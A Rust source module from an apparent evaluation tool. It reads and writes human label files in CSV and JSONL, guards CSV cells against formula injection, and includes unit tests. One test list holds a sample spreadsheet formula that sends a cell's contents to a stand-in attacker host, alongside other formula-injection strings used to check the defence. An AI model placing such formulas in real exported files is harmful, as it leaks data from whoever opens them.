//! Label files: people's verdicts on judged items, read by `gauntlet judge calibrate`
//! ([`parse_labels`] into a [`LabelSet`]), written, unlabelled, by `gauntlet judge sample`
//! ([`write_items`]), and written one [`LabelRecord`] at a time by the labelling mode of
//! `gauntlet view` ([`append_record`], read back by [`read_records`]). Both readers go
//! through one row reader, so a file reads the same for the viewer and the calibration.
//!
//! A CSV cell that a spreadsheet would take for a formula (it begins with `=`, `+`, `-`,
//! `@`, a tab or a carriage return, after any single quotes) is written with a single quote
//! in front ([`guard_cell`], OWASP's advice against CSV injection), since model output is
//! untrusted; the readers take that quote off again ([`unguard_cell`]), so what was written
//! reads back as it was. docs/labels.md is the specification.
//!
//! The format is JSON lines or CSV with these keys or columns: `case_id`, `check_id`,
//! `input`, `output`, `reference` (optional) and `label`. `label` is `pass` or `fail` for a
//! binary judge (`1`/`0`, `true`/`false`, `yes`/`no` also read; 1 is pass), `0`-`3` on the
//! 0-3 scale; for a pairwise judge, `pass` means the output is at least as good as the
//! reference. Any other column is kept as a field of the item (fake judges read them).
//!
//! The same item (case, input, output, reference) labelled twice is reported, never merged:
//! the same label twice is a duplicate and counts once; different labels are a conflict and
//! the item is left out, since nobody knows which label is right.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap};
use std::io::Write;
use std::path::Path;

use gauntlet_core::judges::JudgeScale;
use serde::{Deserialize, Serialize};

/// Label-file formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LabelFormat {
    /// JSON lines: one object per line.
    Jsonl,
    /// CSV with a header row.
    Csv,
}

impl LabelFormat {
    /// The format of a file by its extension (`.csv`, else JSON lines).
    pub fn of_path(path: &std::path::Path) -> LabelFormat {
        match path.extension().and_then(|e| e.to_str()) {
            Some(e) if e.eq_ignore_ascii_case("csv") => LabelFormat::Csv,
            _ => LabelFormat::Jsonl,
        }
    }
}

/// The columns of the format, in the order written.
pub const COLUMNS: [&str; 6] = [
    "case_id",
    "check_id",
    "input",
    "output",
    "reference",
    "label",
];

/// One labelled item, used for calibration.
#[derive(Debug, Clone, PartialEq)]
pub struct LabelItem {
    /// Where it is in the file (1-based line of JSON lines, record of CSV).
    pub line: usize,
    /// The case it came from.
    pub case_id: String,
    /// What the user said.
    pub input: String,
    /// What is judged.
    pub output: String,
    /// The reference, if any.
    pub reference: Option<String>,
    /// The people's verdict as a category (binary fail 0, pass 1; 0-3).
    pub label: usize,
    /// The other columns.
    pub fields: BTreeMap<String, String>,
}

/// Rows labelled twice.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Repeat {
    /// The case.
    pub case_id: String,
    /// The lines of every row of the item.
    pub lines: Vec<usize>,
}

/// A label file, read for one check.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct LabelSet {
    /// Rows read.
    pub rows: usize,
    /// The items used, once each, in file order.
    pub items: Vec<LabelItem>,
    /// Rows for other checks.
    pub other_checks: usize,
    /// Lines with an empty label.
    pub unlabelled: Vec<usize>,
    /// Items labelled more than once with the same label (the first row is used).
    pub duplicates: Vec<Repeat>,
    /// Items labelled differently by different rows (left out).
    pub conflicts: Vec<Repeat>,
}

/// Why a label file cannot be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum LabelError {
    /// A row that does not parse or lacks a required key.
    #[error("line {line}: {message}")]
    Row {
        /// Where.
        line: usize,
        /// What is wrong.
        message: String,
    },
    /// The CSV header lacks a required column.
    #[error(
        "the label file has no `{0}` column (columns: case_id, check_id, input, output, reference, label)"
    )]
    MissingColumn(&'static str),
    /// The file could not be read.
    #[error("failed to read `{path}`: {message}")]
    Read {
        /// The file.
        path: String,
        /// Why.
        message: String,
    },
}

/// What makes a spreadsheet read a cell as a formula when the cell begins with it: the
/// ASCII signs, and their full-width forms, which an East Asian locale's spreadsheet may
/// take for the ASCII ones.
const FORMULA_START: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a cell, past any leading single quotes and then any white space (an import that
/// trims cells would bring a formula behind it to the front), begins like a formula.
fn formula_like(cell: &str) -> bool {
    let rest = cell.trim_start_matches('\'');
    rest.starts_with(FORMULA_START) || rest.trim_start().starts_with(FORMULA_START)
}

/// A CSV cell as written: a single quote in front when it would begin like a formula
/// (counting single quotes it already begins with, so that [`unguard_cell`] can tell a
/// quote it must take off from one that was there).
pub fn guard_cell(cell: &str) -> Cow<'_, str> {
    if formula_like(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV cell as read: the quote [`guard_cell`] put in front taken off.
pub fn unguard_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

/// Reads a label value on a scale.
pub fn parse_label(value: &str, scale: JudgeScale) -> Result<usize, String> {
    let v = value.trim().to_ascii_lowercase();
    match scale {
        JudgeScale::Binary => match v.as_str() {
            "pass" | "1" | "true" | "yes" => Ok(1),
            "fail" | "0" | "false" | "no" => Ok(0),
            _ => Err(format!(
                "`{value}` is not a binary label; write pass or fail"
            )),
        },
        JudgeScale::Graded => match v.as_str() {
            "0" | "1" | "2" | "3" => Ok(v.parse().expect("a digit")),
            _ => Err(format!("`{value}` is not a 0-3 label")),
        },
    }
}

/// One row before it is checked.
struct Row {
    line: usize,
    values: BTreeMap<String, String>,
}

fn text_of(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Null => String::new(),
        other => other.to_string(),
    }
}

fn read_rows(text: &str, format: LabelFormat) -> Result<Vec<Row>, LabelError> {
    let mut rows = Vec::new();
    match format {
        LabelFormat::Jsonl => {
            for (i, line) in text.lines().enumerate() {
                if line.trim().is_empty() {
                    continue;
                }
                let obj: serde_json::Map<String, serde_json::Value> = serde_json::from_str(line)
                    .map_err(|e| LabelError::Row {
                        line: i + 1,
                        message: format!("not a JSON object: {e}"),
                    })?;
                rows.push(Row {
                    line: i + 1,
                    values: obj.iter().map(|(k, v)| (k.clone(), text_of(v))).collect(),
                });
            }
        }
        LabelFormat::Csv => {
            let mut r = csv::ReaderBuilder::new()
                .flexible(false)
                .from_reader(text.as_bytes());
            let headers = r
                .headers()
                .map_err(|e| LabelError::Row {
                    line: 1,
                    message: e.to_string(),
                })?
                .clone();
            for required in ["input", "output", "label"] {
                if !headers.iter().any(|h| h == required) {
                    return Err(LabelError::MissingColumn(required));
                }
            }
            for (i, rec) in r.records().enumerate() {
                let line = rec
                    .as_ref()
                    .ok()
                    .and_then(|r| r.position())
                    .map_or(i + 2, |p| p.line() as usize);
                let rec = rec.map_err(|e| LabelError::Row {
                    line: i + 2,
                    message: e.to_string(),
                })?;
                rows.push(Row {
                    line,
                    values: headers
                        .iter()
                        .zip(rec.iter())
                        .map(|(h, v)| (h.to_owned(), unguard_cell(v).to_owned()))
                        .collect(),
                });
            }
        }
    }
    Ok(rows)
}

/// Whether a row with this `check_id` and `check_label` labels judge `check` (see
/// [`parse_labels`]).
fn row_is_for(
    check_id: &str,
    check_label: &str,
    case: &str,
    check: &str,
    names: &[(String, String)],
) -> bool {
    // A case's benign twin (`ID~benign`) and its matrix columns (`ID @ COLUMN`) are its own.
    let same_case = |id: &str| {
        case.strip_prefix(id)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('~') || rest.starts_with(' '))
    };
    check_id.is_empty()
        || check_id == check
        || (check_id == "judge"
            && (check_label.strip_prefix("judge ") == Some(check)
                || names
                    .iter()
                    .any(|(id, n)| n == check_label && same_case(id))))
}

/// Reads a label file's rows for `check` on `scale`. A row whose `check_id` is empty belongs
/// to every check (a file written for one check). The viewer writes a row as its verdict
/// shows it, the check's kind (`judge`) as `check_id` and the verdict's label as
/// `check_label`: such a row is `check`'s when that label is `judge CHECK` (an unnamed
/// `judge: CHECK`), or when `names` holds its case and label: the `(case id, name)` of each
/// `judge: CHECK` the suite names (two judges may share a name in different cases).
pub fn parse_labels(
    text: &str,
    format: LabelFormat,
    check: &str,
    names: &[(String, String)],
    scale: JudgeScale,
) -> Result<LabelSet, LabelError> {
    let rows = read_rows(text, format)?;
    let mut set = LabelSet {
        rows: rows.len(),
        ..LabelSet::default()
    };
    type Key = (String, String, String, Option<String>);
    let mut seen: HashMap<Key, Vec<(usize, usize)>> = HashMap::new();
    let mut order: Vec<(Key, LabelItem)> = Vec::new();
    for mut row in rows {
        let line = row.line;
        let check_id = row.values.remove("check_id").unwrap_or_default();
        let check_label = row.values.remove("check_label").unwrap_or_default();
        let case = row.values.get("case_id").map_or("", |c| c.trim());
        if !row_is_for(check_id.trim(), check_label.trim(), case, check, names) {
            set.other_checks += 1;
            continue;
        }
        let mut take = |k: &str| row.values.remove(k);
        let input = take("input").ok_or_else(|| LabelError::Row {
            line,
            message: "no `input`".into(),
        })?;
        let output = take("output").ok_or_else(|| LabelError::Row {
            line,
            message: "no `output`".into(),
        })?;
        let label = take("label").ok_or_else(|| LabelError::Row {
            line,
            message: "no `label`".into(),
        })?;
        let reference = take("reference").filter(|r| !r.is_empty());
        let case_id = take("case_id").unwrap_or_default();
        if label.trim().is_empty() {
            set.unlabelled.push(line);
            continue;
        }
        let label =
            parse_label(&label, scale).map_err(|message| LabelError::Row { line, message })?;
        let key: Key = (
            case_id.clone(),
            input.clone(),
            output.clone(),
            reference.clone(),
        );
        let entry = seen.entry(key.clone()).or_default();
        entry.push((line, label));
        if entry.len() == 1 {
            order.push((
                key,
                LabelItem {
                    line,
                    case_id,
                    input,
                    output,
                    reference,
                    label,
                    fields: row.values,
                },
            ));
        }
    }
    for (key, item) in order {
        let rows = &seen[&key];
        if rows.len() == 1 {
            set.items.push(item);
            continue;
        }
        let repeat = Repeat {
            case_id: item.case_id.clone(),
            lines: rows.iter().map(|(l, _)| *l).collect(),
        };
        if rows.iter().all(|(_, l)| *l == item.label) {
            set.duplicates.push(repeat);
            set.items.push(item);
        } else {
            set.conflicts.push(repeat);
        }
    }
    Ok(set)
}

/// An item to label, as `gauntlet judge sample` exports it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExportItem {
    /// The case.
    pub case_id: String,
    /// The judge check.
    pub check_id: String,
    /// What the user said.
    pub input: String,
    /// What was judged.
    pub output: String,
    /// The reference, if any.
    pub reference: Option<String>,
}

/// Writes items in the label format with an empty `label` for people to fill in.
pub fn write_items(items: &[ExportItem], format: LabelFormat) -> String {
    match format {
        LabelFormat::Jsonl => {
            let mut out = String::new();
            for it in items {
                let line = serde_json::json!({
                    "case_id": it.case_id,
                    "check_id": it.check_id,
                    "input": it.input,
                    "output": it.output,
                    "reference": it.reference,
                    "label": "",
                });
                out.push_str(&line.to_string());
                out.push('\n');
            }
            out
        }
        LabelFormat::Csv => {
            let mut w = csv::Writer::from_writer(Vec::new());
            let _ = w.write_record(COLUMNS);
            for it in items {
                let _ = w.write_record(
                    [
                        it.case_id.as_str(),
                        it.check_id.as_str(),
                        it.input.as_str(),
                        it.output.as_str(),
                        it.reference.as_deref().unwrap_or(""),
                        "",
                    ]
                    .map(guard_cell)
                    .iter()
                    .map(|c| c.as_bytes()),
                );
            }
            String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
        }
    }
}

/// A person's judgement of an output, as the viewer records it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Label {
    /// The output meets the check.
    Pass,
    /// It does not.
    Fail,
}

impl Label {
    /// The word written in the file.
    pub fn as_str(self) -> &'static str {
        match self {
            Label::Pass => "pass",
            Label::Fail => "fail",
        }
    }
}

/// One record of a labels file as the viewer writes it: one person's judgement of one
/// output against one check.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LabelRecord {
    /// What the agent was given: the user's message, or for several turns the earlier
    /// turns as `USER: ...` / `ASSISTANT: ...` lines followed by the last user message.
    pub input: String,
    /// What the agent answered last.
    pub output: String,
    /// What the check compares against: a judge's rubric, or the check as written in the
    /// suite (JSON). Empty when the suite could not be read.
    pub reference: String,
    /// The judgement.
    pub label: Label,
    /// The case id.
    pub case_id: String,
    /// The check's kind as in report.json (`judge`, `refusal`, `contains`, ...).
    pub check_id: String,
    /// The run the output came from.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub run_id: Option<String>,
    /// The trial, from 0.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub trial: Option<u32>,
    /// The check's name in the suite, when it has one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub check_label: Option<String>,
    /// When it was labelled (RFC 3339).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub labeled_at: Option<String>,
}

/// The columns of a record, in the order the viewer writes them.
pub const RECORD_COLUMNS: [&str; 10] = [
    "input",
    "output",
    "reference",
    "label",
    "case_id",
    "check_id",
    "run_id",
    "trial",
    "check_label",
    "labeled_at",
];

/// Appends one record (creating the file, and a CSV file's header, when needed). Every
/// optional CSV column is written, empty when unknown, so that rows line up.
pub fn append_record(path: &Path, rec: &LabelRecord) -> std::io::Result<()> {
    let fresh = std::fs::metadata(path).map_or(true, |m| m.len() == 0);
    let mut file = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)?;
    if LabelFormat::of_path(path) == LabelFormat::Csv {
        let mut w = csv::WriterBuilder::new()
            .has_headers(false)
            .from_writer(Vec::new());
        if fresh {
            w.write_record(RECORD_COLUMNS)?;
        }
        let trial = rec.trial.map(|t| t.to_string()).unwrap_or_default();
        let cells = [
            rec.input.as_str(),
            &rec.output,
            &rec.reference,
            rec.label.as_str(),
            &rec.case_id,
            &rec.check_id,
            rec.run_id.as_deref().unwrap_or(""),
            &trial,
            rec.check_label.as_deref().unwrap_or(""),
            rec.labeled_at.as_deref().unwrap_or(""),
        ];
        w.write_record(cells.map(guard_cell).iter().map(|c| c.as_bytes()))?;
        let bytes = w.into_inner().map_err(|e| e.into_error())?;
        file.write_all(&bytes)
    } else {
        let mut line = serde_json::to_vec(rec).map_err(std::io::Error::other)?;
        line.push(b'\n');
        file.write_all(&line)
    }
}

/// Reads every record of a labels file the viewer writes; a missing file has none. Rows go
/// through the same reader as [`parse_labels`]; `input`, `output` and `label` (`pass` or
/// `fail`) are required, any other column may be missing or empty.
pub fn read_records(path: &Path) -> Result<Vec<LabelRecord>, LabelError> {
    let text = match std::fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => {
            return Err(LabelError::Read {
                path: path.display().to_string(),
                message: e.to_string(),
            });
        }
    };
    read_rows(&text, LabelFormat::of_path(path))?
        .into_iter()
        .map(record_of)
        .collect()
}

/// A row as a record.
fn record_of(mut row: Row) -> Result<LabelRecord, LabelError> {
    let line = row.line;
    let mut required = |k: &str| {
        row.values.remove(k).ok_or_else(|| LabelError::Row {
            line,
            message: format!("no `{k}`"),
        })
    };
    let input = required("input")?;
    let output = required("output")?;
    let label = match parse_label(&required("label")?, JudgeScale::Binary) {
        Ok(1) => Label::Pass,
        Ok(_) => Label::Fail,
        Err(message) => return Err(LabelError::Row { line, message }),
    };
    let mut take = |k: &str| row.values.remove(k).filter(|v| !v.is_empty());
    let trial = take("trial")
        .map(|t| {
            t.parse().map_err(|_| LabelError::Row {
                line,
                message: format!("bad trial `{t}`"),
            })
        })
        .transpose()?;
    Ok(LabelRecord {
        input,
        output,
        reference: take("reference").unwrap_or_default(),
        label,
        case_id: take("case_id").unwrap_or_default(),
        check_id: take("check_id").unwrap_or_default(),
        run_id: take("run_id"),
        trial,
        check_label: take("check_label"),
        labeled_at: take("labeled_at"),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(label: Label) -> LabelRecord {
        LabelRecord {
            input: "Refund order A-1, please.\nThanks, \"Bob\"".into(),
            output: "Done, refunded.".into(),
            reference: "{\"contains\":\"refund\"}".into(),
            label,
            case_id: "refund-small".into(),
            check_id: "contains".into(),
            run_id: Some("20260101T000000Z-abcd".into()),
            trial: Some(1),
            check_label: None,
            labeled_at: Some("2026-01-01T00:00:00Z".into()),
        }
    }

    #[test]
    fn both_formats_round_trip() {
        let dir = tempfile::tempdir().unwrap();
        for name in ["labels.jsonl", "labels.csv"] {
            let p = dir.path().join(name);
            append_record(&p, &rec(Label::Pass)).unwrap();
            append_record(&p, &rec(Label::Fail)).unwrap();
            let back = read_records(&p).unwrap();
            assert_eq!(back, vec![rec(Label::Pass), rec(Label::Fail)], "{name}");
        }
        let csv = std::fs::read_to_string(dir.path().join("labels.csv")).unwrap();
        assert!(csv.starts_with("input,output,reference,label,case_id,check_id,"));
        assert_eq!(csv.matches("input,output").count(), 1, "one header");
    }

    /// Texts a spreadsheet would run as formulas, and texts that only look close.
    const FORMULAS: [&str; 14] = [
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "  =1+1",
        "\n=HYPERLINK(\"x\")",
        "\u{FF1D}1+1",
        " \u{FF20}SUM(A1)",
        "'=already quoted",
        "''+twice",
        "'plain quote",
        "a=b",
    ];

    #[test]
    fn a_formula_cell_is_written_inert_and_reads_back_as_it_was() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("labels.csv");
        for f in FORMULAS {
            let mut r = rec(Label::Pass);
            r.output = f.to_owned();
            r.case_id = f.to_owned();
            append_record(&p, &r).unwrap();
        }
        // Every cell a spreadsheet would evaluate begins with a quote in the file.
        let text = std::fs::read_to_string(&p).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.trim_start().starts_with(FORMULA_START),
                    "live formula: {cell:?}"
                );
            }
        }
        let back = read_records(&p).unwrap();
        let outputs: Vec<&str> = back.iter().map(|r| r.output.as_str()).collect();
        assert_eq!(outputs, FORMULAS);
        assert!(back.iter().all(|r| r.output == r.case_id));
        // The calibration's reader sees the same text.
        let set =
            parse_labels(&text, LabelFormat::Csv, "contains", &[], JudgeScale::Binary).unwrap();
        let inputs: Vec<&str> = set.items.iter().map(|i| i.output.as_str()).collect();
        assert_eq!(inputs, FORMULAS);
        // Exported items are guarded too.
        let items = vec![ExportItem {
            case_id: "c".into(),
            check_id: "tone".into(),
            input: "=1+1".into(),
            output: "@cmd".into(),
            reference: Some("-x".into()),
        }];
        let text = write_items(&items, LabelFormat::Csv);
        assert!(text.contains("c,tone,'=1+1,'@cmd,'-x,"), "{text}");
        let filled = text.replace(",\n", ",pass\n");
        let s = parse_labels(&filled, LabelFormat::Csv, "tone", &[], JudgeScale::Binary).unwrap();
        assert_eq!(
            (s.items[0].input.as_str(), s.items[0].output.as_str()),
            ("=1+1", "@cmd")
        );
        assert_eq!(s.items[0].reference.as_deref(), Some("-x"));
    }

    #[test]
    fn csv_and_jsonl_read_alike() {
        let csv = "case_id,check_id,input,output,reference,label,extra\n\
                   c1,tone,hi,\"hello, there\",,pass,x\n\
                   c2,tone,hi,go away,,fail,y\n\
                   c3,other,hi,meh,,pass,z\n\
                   c4,,hi,ok,,,w\n";
        let a = parse_labels(csv, LabelFormat::Csv, "tone", &[], JudgeScale::Binary).unwrap();
        assert_eq!(a.rows, 4);
        assert_eq!(a.items.len(), 2);
        assert_eq!(a.items[0].output, "hello, there");
        assert_eq!(a.items[0].label, 1);
        assert_eq!(a.items[0].fields["extra"], "x");
        assert_eq!(a.other_checks, 1);
        assert_eq!(a.unlabelled, vec![5]);
        let jsonl = "{\"case_id\":\"c1\",\"check_id\":\"tone\",\"input\":\"hi\",\"output\":\"hello, there\",\"label\":1,\"extra\":\"x\"}\n\
                     {\"case_id\":\"c2\",\"check_id\":\"tone\",\"input\":\"hi\",\"output\":\"go away\",\"label\":\"fail\",\"extra\":\"y\"}\n";
        let b = parse_labels(jsonl, LabelFormat::Jsonl, "tone", &[], JudgeScale::Binary).unwrap();
        assert_eq!(
            a.items
                .iter()
                .map(|i| (&i.output, i.label))
                .collect::<Vec<_>>(),
            b.items
                .iter()
                .map(|i| (&i.output, i.label))
                .collect::<Vec<_>>()
        );
    }

    #[test]
    fn repeats_are_reported_not_merged() {
        let rows = [
            r#"{"case_id":"a","input":"q","output":"x","label":"pass"}"#,
            r#"{"case_id":"a","input":"q","output":"x","label":"pass"}"#,
            r#"{"case_id":"b","input":"q","output":"y","label":"pass"}"#,
            r#"{"case_id":"b","input":"q","output":"y","label":"fail"}"#,
            r#"{"case_id":"c","input":"q","output":"z","label":"fail"}"#,
        ]
        .join("\n");
        let s = parse_labels(&rows, LabelFormat::Jsonl, "t", &[], JudgeScale::Binary).unwrap();
        assert_eq!(s.items.len(), 2, "a once, c; b left out");
        assert_eq!(
            s.duplicates,
            vec![Repeat {
                case_id: "a".into(),
                lines: vec![1, 2]
            }]
        );
        assert_eq!(
            s.conflicts,
            vec![Repeat {
                case_id: "b".into(),
                lines: vec![3, 4]
            }]
        );
    }

    #[test]
    fn a_row_the_viewer_wrote_belongs_to_the_judge_its_label_names() {
        let names = [("c1".to_owned(), "style".to_owned())];
        assert!(row_is_for("", "", "c9", "tone", &[]));
        assert!(row_is_for("tone", "", "c9", "tone", &[]));
        assert!(row_is_for("judge", "judge tone", "c9", "tone", &[]));
        assert!(row_is_for("judge", "style", "c1", "tone", &names));
        assert!(row_is_for("judge", "style", "c1~benign", "tone", &names));
        assert!(row_is_for("judge", "style", "c1 @ gpt", "tone", &names));
        // The same name on another case's judge is that judge's.
        assert!(!row_is_for("judge", "style", "c2", "tone", &names));
        assert!(!row_is_for("judge", "style", "c10", "tone", &names));
        assert!(!row_is_for("judge", "style", "c1", "tone", &[]));
        assert!(!row_is_for("judge", "judge tones", "c1", "tone", &[]));
        assert!(!row_is_for("refusal", "judge tone", "c1", "tone", &names));
        assert!(!row_is_for("other", "", "c1", "tone", &[]));
    }

    #[test]
    fn bad_rows_name_their_line() {
        let err = parse_labels(
            "{\"input\":\"q\",\"output\":\"x\",\"label\":\"maybe\"}",
            LabelFormat::Jsonl,
            "t",
            &[],
            JudgeScale::Binary,
        )
        .unwrap_err();
        assert_eq!(
            err.to_string(),
            "line 1: `maybe` is not a binary label; write pass or fail"
        );
        assert_eq!(
            parse_labels(
                "input,label\nq,1\n",
                LabelFormat::Csv,
                "t",
                &[],
                JudgeScale::Binary
            )
            .unwrap_err(),
            LabelError::MissingColumn("output")
        );
        assert_eq!(parse_label("2", JudgeScale::Graded), Ok(2));
        assert!(parse_label("4", JudgeScale::Graded).is_err());
    }

    #[test]
    fn exported_items_read_back_unlabelled() {
        let items = vec![ExportItem {
            case_id: "c1".into(),
            check_id: "tone".into(),
            input: "hi;\n\"there\"".into(),
            output: "hello".into(),
            reference: None,
        }];
        for f in [LabelFormat::Csv, LabelFormat::Jsonl] {
            let text = write_items(&items, f);
            let s = parse_labels(&text, f, "tone", &[], JudgeScale::Binary).unwrap();
            assert_eq!(
                (s.rows, s.items.len(), s.unlabelled.len()),
                (1, 0, 1),
                "{f:?}"
            );
            let filled = text
                .replace(",\n", ",pass\n")
                .replace("\"label\":\"\"", "\"label\":\"pass\"");
            let s = parse_labels(&filled, f, "tone", &[], JudgeScale::Binary).unwrap();
            assert_eq!(s.items[0].input, "hi;\n\"there\"", "{f:?}: {filled}");
        }
    }
}
